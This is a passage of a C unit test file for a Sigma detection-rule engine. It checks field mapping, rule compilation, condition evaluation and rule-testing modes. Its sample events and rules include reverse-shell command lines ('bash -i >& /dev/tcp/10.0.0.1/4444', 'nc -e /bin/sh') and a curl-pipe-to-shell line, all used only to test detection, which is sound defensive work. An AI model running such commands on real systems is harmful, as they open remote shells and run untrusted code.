@@ -1,0 +1,939 @@
+/*
+ * tests/unit/test_sigma_engine.c - the Sigma engine (plugins/detector_sigma
+ * engine.h, fieldmap.h): the field table, compiling rules against it,
+ * "can never match" reports, evaluation of conditions over selections,
+ * loading folders, and the modes of `rules test` (any log source, raw field
+ * names). Events come from a fake view over an array of name/value pairs.
+ */
+#define _GNU_SOURCE
+#include "engine.h"
+#include "fieldmap.h"
+#include "rule.h"
+
+#include <rampart/plugin.h>
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "testutil.h"
+
+/* Allocation counting for test_no_allocation_per_event, as in
+ * test_sigma_match.c: the sanitizer's malloc hook under ASan or TSan,
+ * otherwise malloc, calloc and realloc interposed over glibc's. */
+static volatile int counting;
+static volatile size_t allocations;
+#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
+#define RP_TEST_SANITIZER 1
+#elif defined(__has_feature)
+#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer)
+#define RP_TEST_SANITIZER 1
+#endif
+#endif
+#ifdef RP_TEST_SANITIZER
+int __sanitizer_install_malloc_and_free_hooks(void (*m)(const volatile void *, size_t),
+                                              void (*f)(const volatile void *));
+static void count_malloc(const volatile void *p, size_t n)
+{
+    (void)p;
+    (void)n;
+    if (counting)
+        allocations++;
+}
+static void count_free(const volatile void *p)
+{
+    (void)p;
+}
+static void counting_install(void)
+{
+    __sanitizer_install_malloc_and_free_hooks(count_malloc, count_free);
+}
+#else
+extern void *__libc_malloc(size_t n);
+extern void *__libc_calloc(size_t n, size_t size);
+extern void *__libc_realloc(void *p, size_t n);
+void *malloc(size_t n);
+void *calloc(size_t n, size_t size);
+void *realloc(void *p, size_t n);
+void *malloc(size_t n)
+{
+    if (counting)
+        allocations++;
+    return __libc_malloc(n);
+}
+void *calloc(size_t n, size_t size)
+{
+    if (counting)
+        allocations++;
+    return __libc_calloc(n, size);
+}
+void *realloc(void *p, size_t n)
+{
+    if (counting)
+        allocations++;
+    return __libc_realloc(p, n);
+}
+static void counting_install(void)
+{
+}
+#endif
+
+/* ---- a fake event ---- */
+
+#define FEV_MAX 32
+
+struct fev {
+    const struct ds_engine *eng;
+    const char *kv[2 * FEV_MAX + 1]; /* name, value, ..., NULL */
+    unsigned gets[256];              /* view->get calls per slot */
+};
+
+static int fev_get(void *ctx, uint32_t slot, const char **v, size_t *len)
+{
+    struct fev *e = ctx;
+    const char *name = ds_engine_slot_name(e->eng, slot);
+    assert_non_null(name);
+    if (slot < 256)
+        e->gets[slot]++;
+    for (size_t i = 0; e->kv[i]; i += 2)
+        if (strcmp(e->kv[i], name) == 0) {
+            *v = e->kv[i + 1];
+            *len = strlen(e->kv[i + 1]);
+            return 1;
+        }
+    return 0;
+}
+
+static int fev_str(void *ctx, uint32_t i, const char **v, size_t *len)
+{
+    struct fev *e = ctx;
+    size_t n = 0;
+    while (e->kv[n])
+        n += 2;
+    if (2 * (size_t)i >= n)
+        return 0;
+    *v = e->kv[2 * i + 1];
+    *len = strlen(*v);
+    return 1;
+}
+
+/* An event of name/value pairs ending with NULL. */
+static struct ds_view fev_make(struct fev *e, const struct ds_engine *eng, ...)
+{
+    memset(e, 0, sizeof(*e));
+    e->eng = eng;
+    va_list ap;
+    va_start(ap, eng);
+    size_t n = 0;
+    for (const char *s = va_arg(ap, const char *); s; s = va_arg(ap, const char *)) {
+        assert_true(n < 2 * FEV_MAX);
+        e->kv[n++] = s;
+    }
+    va_end(ap);
+    assert_true(n % 2 == 0);
+    return (struct ds_view){.get = fev_get, .string_at = fev_str, .ctx = e};
+}
+
+/* ---- helpers ---- */
+
+#define LNX(category)                                                                              \
+    "logsource:\n"                                                                                 \
+    "    product: linux\n"                                                                         \
+    "    category: " category "\n"
+
+/* Loads yaml and adds it; returns the report's status (the report in rep). */
+static enum ds_status add_yaml(struct ds_engine *eng, const char *name, const char *yaml,
+                               struct ds_report *rep)
+{
+    struct ds_rule *r = NULL;
+    struct ds_load_result res;
+    assert_int_equal(ds_rule_load_buffer(name, yaml, strlen(yaml), &r, &res), 0);
+    if (!r)
+        fail_msg("%s did not load: %s", name, res.msg);
+    assert_int_equal(ds_engine_add_rule(eng, r, name, rep, NULL), 0);
+    return rep->status;
+}
+
+static void add_ok(struct ds_engine *eng, const char *name, const char *yaml)
+{
+    struct ds_report rep;
+    enum ds_status st = add_yaml(eng, name, yaml, &rep);
+    if (st != DS_ST_LOADED)
+        fail_msg("%s: status %d, reason %s: %s", name, st, ds_reason_name(rep.reason), rep.msg);
+}
+
+struct hits {
+    char titles[1024];
+};
+
+static int on_match(void *ctx, const struct ds_crule *r)
+{
+    struct hits *h = ctx;
+    size_t n = strlen(h->titles);
+    snprintf(h->titles + n, sizeof(h->titles) - n, "%s%s", n ? "," : "", ds_crule_rule(r)->title);
+    return 0;
+}
+
+/* The titles of the rules that match, joined by commas. */
+static const char *eval_titles(struct ds_engine *eng, int type, const struct ds_view *v,
+                               struct hits *h, struct ds_eval_stats *st)
+{
+    h->titles[0] = '\0';
+    assert_int_equal(ds_engine_eval(eng, type, v, on_match, h, st), 0);
+    return h->titles;
+}
+
+static struct ds_engine *engine(const struct ds_engine_opts *o)
+{
+    struct ds_engine *eng = NULL;
+    assert_int_equal(ds_engine_create(o, &eng), 0);
+    assert_non_null(eng);
+    return eng;
+}
+
+/* ---- the field table ---- */
+
+static void test_fieldmap(void **state)
+{
+    (void)state;
+    struct ds_fieldmap *m = NULL;
+    assert_int_equal(ds_fieldmap_create(&m), 0);
+    const struct ds_valuemap *vm = NULL;
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Image", 5, &vm),
+                        "process.executable");
+    assert_null(vm);
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "CommandLine", 11, NULL),
+                        "process.command_line");
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "ParentImage", 11, NULL),
+                        "process.parent.executable");
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_FILE_EVENT, "TargetFilename", 14, NULL),
+                        "file.path");
+    assert_string_equal(
+        ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "DestinationHostname", 19, NULL),
+        "destination.domain");
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "DestinationPort", 15, NULL),
+                        "destination.port");
+    /* Initiated carries a value map to ECS's direction words. */
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "Initiated", 9, &vm),
+                        "network.direction");
+    assert_non_null(vm);
+    assert_string_equal(vm[0].sigma, "true");
+    assert_string_equal(vm[0].ecs, "egress");
+    assert_string_equal(vm[1].ecs, "ingress");
+    /* Known to have no field here; unknown; an ECS name as written (the
+     * caller's own bytes, not NUL-terminated). */
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "LogonId", 7, NULL), "");
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "OriginalFileName", 16, NULL),
+                        "");
+    assert_null(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "NoSuchField", 11, NULL));
+    const char *dotted = "process.name|contains";
+    assert_ptr_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, dotted, 12, NULL), dotted);
+    /* Names compare ignoring case; a prefix is not the name. */
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "image", 5, NULL),
+                        "process.executable");
+    assert_null(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Imag", 4, NULL));
+
+    /* Config adds per log source and overrides; the log source entry wins
+     * over "*". */
+    char err[256];
+    assert_int_equal(ds_fieldmap_set(m, "file_event", "Image", "rampart.x", err, sizeof err), 0);
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_FILE_EVENT, "Image", 5, NULL), "rampart.x");
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "Image", 5, NULL),
+                        "process.executable");
+    assert_int_equal(ds_fieldmap_set(m, "*", "LogonId", "process.session", err, sizeof err), 0);
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_PROCESS_CREATION, "LogonId", 7, NULL),
+                        "process.session");
+    assert_int_equal(ds_fieldmap_set(m, "*", "Initiated", "network.direction", err, sizeof err), 0);
+    assert_string_equal(ds_fieldmap_get(m, DS_LS_NETWORK_CONNECTION, "Initiated", 9, &vm),
+                        "network.direction");
+    assert_null(vm);
+    assert_int_equal(ds_fieldmap_set(m, "registry_event", "X", "y", err, sizeof err), RP_ERR_INVAL);
+    assert_non_null(strstr(err, "registry_event"));
+    assert_int_equal(ds_fieldmap_set(m, "*", "", "y", err, sizeof err), RP_ERR_INVAL);
+    assert_int_equal(ds_fieldmap_set(m, "*", "A B", "y", err, sizeof err), RP_ERR_INVAL);
+    assert_non_null(strstr(err, "A B"));
+    assert_int_equal(ds_fieldmap_set(m, "*", "X", "a\"b", err, sizeof err), RP_ERR_INVAL);
+    /* The cap counts the built-in entries. */
+    int rc = 0;
+    for (unsigned i = 0; i < DS_FIELDMAP_MAX + 1 && rc == 0; i++) {
+        char name[32];
+        snprintf(name, sizeof name, "F%u", i);
+        rc = ds_fieldmap_set(m, "*", name, "a.b", err, sizeof err);
+    }
+    assert_int_equal(rc, RP_ERR_RANGE);
+    ds_fieldmap_destroy(m);
+    ds_fieldmap_destroy(NULL);
+}
+
+static void test_event_types(void **state)
+{
+    (void)state;
+    for (int t = 0; t < DS_EV_COUNT; t++) {
+        const char *n = ds_event_type_name(t);
+        assert_int_equal(ds_event_type_lookup(n, strlen(n)), t);
+    }
+    assert_string_equal(ds_event_type_name(DS_EV_COUNT), "?");
+    assert_int_equal(ds_event_type_lookup("process.exit", 12), -1);
+    assert_true(ds_logsource_covers(DS_LS_PROCESS_CREATION, DS_EV_PROCESS_EXEC));
+    assert_true(ds_logsource_covers(DS_LS_FILE_EVENT, DS_EV_FILE_RENAME));
+    assert_true(ds_logsource_covers(DS_LS_FILE_CHANGE, DS_EV_FILE_MODIFY));
+    assert_false(ds_logsource_covers(DS_LS_FILE_EVENT, DS_EV_FILE_DELETE));
+    assert_true(ds_logsource_covers(DS_LS_NETWORK_CONNECTION, DS_EV_NETWORK_ACCEPT));
+    assert_false(ds_logsource_covers(DS_LS_PROCESS_CREATION, DS_EV_FILE_CREATE));
+}
+
+/* ---- evaluation ---- */
+
+static const char rule_revshell[] = "title: revshell\n"
+                                    "id: 11111111-0000-0000-0000-000000000001\n" LNX(
+                                        "process_creation") "detection:\n"
+                                                            "    sel_img:\n"
+                                                            "        Image|endswith:\n"
+                                                            "            - /bash\n"
+                                                            "            - /sh\n"
+                                                            "    sel_cmd:\n"
+                                                            "        CommandLine|contains: "
+                                                            "/dev/tcp/\n"
+                                                            "    filter:\n"
+                                                            "        ParentImage: /usr/sbin/sshd\n"
+                                                            "    condition: all of sel_* and not "
+                                                            "filter\n";
+
+static void test_eval_condition(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "revshell.yml", rule_revshell);
+    add_ok(eng, "tmpfile.yml",
+           "title: tmpfile\n" LNX("file_event") "detection:\n"
+                                                "    sel:\n"
+                                                "        TargetFilename|startswith: /tmp/\n"
+                                                "        TargetFilename|endswith: .sh\n"
+                                                "    condition: sel\n");
+    add_ok(eng, "list.yml",
+           "title: listofmaps\n" LNX("process_creation") "detection:\n"
+                                                         "    sel:\n"
+                                                         "        - Image: /usr/bin/curl\n"
+                                                         "          CommandLine|contains: '| sh'\n"
+                                                         "        - Image: /usr/bin/wget\n"
+                                                         "    condition: 1 of them\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    assert_int_equal(ds_engine_rule_count(eng), 3);
+
+    struct fev e;
+    struct hits h;
+    struct ds_eval_stats st;
+    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/bash",
+                                "process.command_line", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                                "process.parent.executable", "/usr/bin/python3", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "revshell");
+    assert_int_equal(st.matched, 1);
+    /* Only the two process_creation rules were tested on an exec. */
+    assert_int_equal(st.candidates, 2);
+    /* The filter holds: not matched. Case-insensitive by default. */
+    v = fev_make(&e, eng, "process.executable", "/bin/BASH", "process.command_line",
+                 "bash -i >& /DEV/TCP/10.0.0.1/4444", "process.parent.executable", "/USR/SBIN/SSHD",
+                 NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
+    v = fev_make(&e, eng, "process.executable", "/bin/BASH", "process.command_line",
+                 "bash -i >& /DEV/TCP/10.0.0.1/4444", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "revshell");
+    /* One selection of the two is not enough (all of). */
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/zsh", "process.command_line",
+                 "zsh -c 'cat </dev/tcp/x/1'", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
+    /* A list of maps: one of them. */
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/wget", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "listofmaps");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/curl", "process.command_line",
+                 "curl -s http://x | sh", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "listofmaps");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/curl", "process.command_line",
+                 "curl -o x http://x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
+    /* The file rule sees file events only, of the types file_event covers. */
+    v = fev_make(&e, eng, "file.path", "/tmp/x.sh", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, &st), "tmpfile");
+    assert_int_equal(st.candidates, 1);
+    assert_string_equal(eval_titles(eng, DS_EV_FILE_RENAME, &v, &h, &st), "tmpfile");
+    assert_string_equal(eval_titles(eng, DS_EV_FILE_DELETE, &v, &h, &st), "");
+    assert_int_equal(st.candidates, 0);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "");
+    assert_string_equal(eval_titles(eng, -1, &v, &h, &st), "");
+    assert_string_equal(eval_titles(eng, DS_EV_COUNT, &v, &h, &st), "");
+
+    /* explain names the selections that hold; eval_rule agrees. */
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
+                 "bash -i >& /dev/tcp/10.0.0.1/4444", "process.parent.executable", "/usr/sbin/sshd",
+                 NULL);
+    const struct ds_crule *r0 = ds_engine_rule_at(eng, 0);
+    char why[128];
+    assert_int_equal(ds_engine_explain(eng, r0, &v, why, sizeof why), 0);
+    assert_string_equal(why, "sel_img, sel_cmd, filter");
+    assert_false(ds_engine_eval_rule(eng, r0, &v));
+    char tiny[8];
+    assert_int_equal(ds_engine_explain(eng, r0, &v, tiny, sizeof tiny), 0);
+    assert_string_equal(tiny, "sel_img");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line",
+                 "bash -i >& /dev/tcp/10.0.0.1/4444", NULL);
+    assert_true(ds_engine_eval_rule(eng, r0, &v));
+    assert_null(ds_engine_rule_at(eng, 3));
+    assert_int_equal(ds_crule_index(ds_engine_rule_at(eng, 2)), 2);
+    assert_string_equal(ds_crule_path(r0), "revshell.yml");
+    assert_false(ds_crule_dead(r0));
+    assert_true(ds_engine_memory(eng) > 0);
+    /* Adding after the build is refused. */
+    struct ds_rule *late = NULL;
+    struct ds_load_result res;
+    assert_int_equal(
+        ds_rule_load_buffer("late.yml", rule_revshell, strlen(rule_revshell), &late, &res), 0);
+    assert_int_equal(ds_engine_add_rule(eng, late, "late.yml", NULL, NULL), RP_ERR_BUSY);
+    ds_engine_destroy(eng);
+    ds_engine_destroy(NULL);
+}
+
+/* Values typed by YAML and the value map: a port written as a number
+ * matches the decimal text; Initiated: 'true' means egress. */
+static void test_values_and_valuemap(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "net.yml",
+           "title: net\n" LNX("network_connection") "detection:\n"
+                                                    "    sel:\n"
+                                                    "        Initiated: 'true'\n"
+                                                    "        DestinationPort:\n"
+                                                    "            - 4444\n"
+                                                    "            - 1337\n"
+                                                    "    condition: sel\n");
+    add_ok(eng, "in.yml",
+           "title: inbound\n" LNX("network_connection") "detection:\n"
+                                                        "    sel:\n"
+                                                        "        Initiated: false\n"
+                                                        "        DestinationIp|cidr: 10.0.0.0/8\n"
+                                                        "    condition: sel\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct hits h;
+    struct ds_view v = fev_make(&e, eng, "network.direction", "egress", "destination.port", "4444",
+                                "destination.ip", "10.1.2.3", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_CONNECT, &v, &h, NULL), "net");
+    v = fev_make(&e, eng, "network.direction", "ingress", "destination.port", "4444",
+                 "destination.ip", "10.1.2.3", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_ACCEPT, &v, &h, NULL), "inbound");
+    v = fev_make(&e, eng, "network.direction", "egress", "destination.port", "443", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_NETWORK_CONNECT, &v, &h, NULL), "");
+    ds_engine_destroy(eng);
+}
+
+/* Keywords search every string value; `all` finds each value somewhere. */
+static void test_keywords(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "kw.yml",
+           "title: kw\n" LNX("process_creation") "detection:\n"
+                                                 "    keywords:\n"
+                                                 "        - 'nc -e'\n"
+                                                 "        - 'ncat -e'\n"
+                                                 "    condition: keywords\n");
+    add_ok(eng, "kwall.yml",
+           "title: kwall\n" LNX("process_creation") "detection:\n"
+                                                    "    kw:\n"
+                                                    "        '|all':\n"
+                                                    "            - '*chmod*'\n"
+                                                    "            - '*/tmp/*'\n"
+                                                    "    condition: kw\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct hits h;
+    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/nc",
+                                "process.command_line", "nc -e /bin/sh 10.0.0.1 1", NULL);
+    /* Keywords are searched in the values, as SIEM backends search text. */
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kw");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/nc", "process.args", "NC -E", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kw");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/nc", "process.args", "nc -x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/chmod", "process.working_directory",
+                 "/tmp/x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "kwall");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/chmod", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
+    ds_engine_destroy(eng);
+}
+
+static void test_fieldref_and_memo(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    add_ok(eng, "ref.yml",
+           "title: ref\n" LNX("process_creation") "detection:\n"
+                                                  "    sel:\n"
+                                                  "        Image|fieldref: ParentImage\n"
+                                                  "    a:\n"
+                                                  "        CommandLine|contains: x\n"
+                                                  "    b:\n"
+                                                  "        CommandLine|contains: y\n"
+                                                  "    condition: sel and (a or b) and not "
+                                                  "(a and b) or (sel and a)\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct hits h;
+    struct ds_view v =
+        fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.parent.executable",
+                 "/USR/BIN/BASH", "process.command_line", "x y", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "ref");
+    /* Each field was asked once although the condition reads a twice. */
+    for (uint32_t s = 0; s < ds_engine_slot_count(eng); s++)
+        assert_in_range(e.gets[s], 0, 1);
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.parent.executable",
+                 "/usr/bin/sh", "process.command_line", "x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/bash", "process.command_line", "x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "");
+    ds_engine_destroy(eng);
+}
+
+/* ---- "can never match" ---- */
+
+/* What the collectors fill, by event type: a small copy of their provides
+ * lists, enough for these rules. */
+static int fake_filled(void *ctx, int type, const char *field)
+{
+    (void)ctx;
+    static const char *const proc[] = {"process.executable", "process.command_line",
+                                       "process.parent.executable", "user.name", NULL};
+    static const char *const file[] = {"file.path", "process.executable", NULL};
+    const char *const *list = type == DS_EV_PROCESS_EXEC                                 ? proc
+                              : (type >= DS_EV_FILE_CREATE && type <= DS_EV_FILE_DELETE) ? file
+                                                                                         : NULL;
+    for (size_t i = 0; list && list[i]; i++)
+        if (strcmp(list[i], field) == 0)
+            return 1;
+    return 0;
+}
+
+static void test_can_never_match(void **state)
+{
+    (void)state;
+    struct ds_engine_opts o = {.filled = fake_filled};
+    struct ds_engine *eng = engine(&o);
+    struct ds_report rep;
+    /* A file rule on the parent's image: no file event has it. */
+    assert_int_equal(add_yaml(eng, "parent.yml",
+                              "title: parent\n" LNX("file_event") "detection:\n"
+                                                                  "    sel:\n"
+                                                                  "        ParentImage: /x\n"
+                                                                  "        TargetFilename: /y\n"
+                                                                  "    condition: sel\n",
+                              &rep),
+                     DS_ST_DEAD);
+    assert_int_equal(rep.reason, DS_LOADED);
+    assert_non_null(rep.rule);
+    assert_string_equal(rep.msg, "can never match: field process.parent.executable (Sigma "
+                                 "ParentImage) is not filled for file_event");
+    /* Windows metadata and an unknown name: both named. */
+    assert_int_equal(add_yaml(eng, "pe.yml",
+                              "title: pe\n" LNX("process_creation") "detection:\n"
+                                                                    "    a:\n"
+                                                                    "        OriginalFileName: x\n"
+                                                                    "    b:\n"
+                                                                    "        Foo: y\n"
+                                                                    "    condition: a or b\n",
+                              &rep),
+                     DS_ST_DEAD);
+    assert_non_null(strstr(rep.msg, "can never match: field OriginalFileName (Sigma "
+                                    "OriginalFileName) has no ECS field"));
+    assert_non_null(strstr(rep.msg, "; field Foo (Sigma Foo) has no ECS mapping for "
+                                    "process_creation"));
+    /* Only in a filter: the rule can still match and loads. */
+    add_ok(eng, "filter.yml",
+           "title: filtered\n" LNX("process_creation") "detection:\n"
+                                                       "    sel:\n"
+                                                       "        Image|endswith: /whoami\n"
+                                                       "    filter:\n"
+                                                       "        LogonId: '0x3e7'\n"
+                                                       "    condition: sel and not filter\n");
+    /* null and exists: false hold on an absent field. */
+    add_ok(eng, "null.yml",
+           "title: nullok\n" LNX("process_creation") "detection:\n"
+                                                     "    sel:\n"
+                                                     "        Image|endswith: /id\n"
+                                                     "        LogonId: null\n"
+                                                     "        Company|exists: false\n"
+                                                     "    condition: sel\n");
+    /* The negation of a selection on an absent field always holds: the
+     * rule loads and matches every exec. */
+    add_ok(eng, "notonly.yml",
+           "title: notonly\n" LNX("process_creation") "detection:\n"
+                                                      "    sel:\n"
+                                                      "        Company: x\n"
+                                                      "    condition: not sel\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    assert_int_equal(ds_engine_rule_count(eng), 5);
+    assert_true(ds_crule_dead(ds_engine_rule_at(eng, 0)));
+    struct fev e;
+    struct hits h;
+    struct ds_eval_stats st;
+    struct ds_view v =
+        fev_make(&e, eng, "process.executable", "/usr/bin/whoami", "file.path", "/y", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "filtered,notonly");
+    /* Dead rules are not in any bucket: never tested. */
+    assert_int_equal(st.candidates, 3);
+    v = fev_make(&e, eng, "process.executable", "/usr/bin/id", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, &st), "nullok,notonly");
+    v = fev_make(&e, eng, "file.path", "/y", "process.parent.executable", "/x", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, &st), "");
+    assert_false(ds_engine_eval_rule(eng, ds_engine_rule_at(eng, 0), &v));
+    ds_engine_destroy(eng);
+
+    /* Without a filled callback every mapped field counts as filled. */
+    eng = engine(NULL);
+    assert_int_equal(add_yaml(eng, "parent.yml",
+                              "title: parent\n" LNX("file_event") "detection:\n"
+                                                                  "    sel:\n"
+                                                                  "        ParentImage: /x\n"
+                                                                  "    condition: sel\n",
+                              &rep),
+                     DS_ST_LOADED);
+    ds_engine_destroy(eng);
+}
+
+/* Compile errors the loader cannot see: a regex PCRE2 refuses, an expand
+ * placeholder config lacks. */
+static void test_compile_errors(void **state)
+{
+    (void)state;
+    struct ds_engine *eng = engine(NULL);
+    struct ds_report rep;
+    assert_int_equal(add_yaml(eng, "re.yml",
+                              "title: re\n" LNX("process_creation") "detection:\n"
+                                                                    "    sel:\n"
+                                                                    "        CommandLine|re: "
+                                                                    "'a(b'\n"
+                                                                    "    condition: sel\n",
+                              &rep),
+                     DS_ST_SKIPPED);
+    assert_int_equal(rep.reason, DS_SKIP_BAD_MODIFIER);
+    assert_non_null(strstr(rep.msg, "re.yml:7:9: detection.sel.CommandLine|re: "));
+    assert_non_null(strstr(rep.msg, "missing closing parenthesis"));
+    assert_null(rep.rule);
+    assert_int_equal(add_yaml(eng, "exp.yml",
+                              "title: exp\n" LNX("process_creation") "detection:\n"
+                                                                     "    sel:\n"
+                                                                     "        Image|expand: "
+                                                                     "'%admins%'\n"
+                                                                     "    condition: sel\n",
+                              &rep),
+                     DS_ST_SKIPPED);
+    assert_int_equal(rep.reason, DS_SKIP_PLACEHOLDER);
+    assert_string_equal(ds_reason_name(DS_SKIP_PLACEHOLDER), "placeholder_unset");
+    assert_non_null(strstr(rep.msg, "%admins%"));
+    assert_int_equal(ds_engine_rule_count(eng), 0);
+    ds_engine_destroy(eng);
+
+    /* With the placeholder configured it compiles. */
+    static const char *const admins[] = {"/usr/sbin/visudo", "/usr/bin/sudo"};
+    struct ds_placeholder ph = {.name = "admins", .values = admins, .nvalues = 2};
+    struct ds_engine_opts o = {.match = {.placeholders = &ph, .nplaceholders = 1}};
+    eng = engine(&o);
+    add_ok(eng, "exp.yml",
+           "title: exp\n" LNX("process_creation") "detection:\n"
+                                                  "    sel:\n"
+                                                  "        Image|expand: '%admins%'\n"
+                                                  "    condition: sel\n");
+    assert_int_equal(ds_engine_build(eng), 0);
+    struct fev e;
+    struct hits h;
+    struct ds_view v = fev_make(&e, eng, "process.executable", "/usr/bin/sudo", NULL);
+    assert_string_equal(eval_titles(eng, DS_EV_PROCESS_EXEC, &v, &h, NULL), "exp");
+    ds_engine_destroy(eng);
+}
+
+/* ---- modes of `rules test` ---- */
+
+static void test_any_logsource_raw_fields(void **state)
+{
+    (void)state;
+    static const char win[] = "title: win\n"
+                              "logsource:\n"
+                              "    product: windows\n"
+                              "    service: security\n"
+                              "detection:\n"
+                              "    sel:\n"
+                              "        EventID: 4688\n"
+                              "        NewProcessName|endswith: '\\cmd.exe'\n"
+                              "    condition: sel\n";
+    /* The plain engine refuses it for its log source. */
+    struct ds_engine *eng = engine(NULL);
+    struct ds_rule *r = NULL;
+    struct ds_load_result res;
+    assert_int_equal(ds_rule_load_buffer("win.yml", win, strlen(win), &r, &res), 0);
+    assert_null(r);
+    assert_int_equal(res.reason, DS_SKIP_NOT_LINUX);
+    ds_engine_destroy(eng);
+
+    char dir[128], path[256];
+    assert_int_equal(tu_mkdtemp("sigeng", dir, sizeof dir), 0);
+    assert_non_null(tu_path(path, sizeof path, dir, "win.yml"));
+    assert_int_equal(tu_write(path, win), 0);
+    struct ds_engine_opts o = {.any_logsource = true, .raw_fields = true};
+    eng = engine(&o);
+    assert_int_equal(ds_engine_add_file(eng, path, NULL, NULL, NULL), 0);
+    assert_int_equal(ds_engine_build(eng), 0);
+    assert_int_equal(ds_engine_rule_count(eng), 1);
+    struct fev e;
+    struct hits h;
+    struct ds_view v = fev_make(&e, eng, "EventID", "4688", "NewProcessName",
+                                "C:\\Windows\\System32\\cmd.exe", NULL);
+    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "win");
+    /* Whatever type the caller names, every rule runs. */
+    assert_string_equal(eval_titles(eng, DS_EV_FILE_CREATE, &v, &h, NULL), "win");
+    v = fev_make(&e, eng, "EventID", "4689", "NewProcessName", "C:\\cmd.exe", NULL);
+    assert_string_equal(eval_titles(eng, -1, &v, &h, NULL), "");
+    ds_engine_destroy(eng);
+
+    /* any_logsource with mapping: a Windows process_creation rule on Image
+     * runs against ECS events. */
+    static const char winproc[] = "title: winproc\n"
+                                  "logsource:\n"
+                                  "    product: windows\n"
+                                  "    category: process_creation\n"
+                                  "detection:\n"
+                                  "    sel:\n"
+                                  "        Image|endswith: '\\whoami.exe'\n"
+                                  "    condition: sel\n";
+    assert_int_equal(tu_write(path, winproc), 0);
+    o.raw_fields = false;
+    eng = engine(&o);
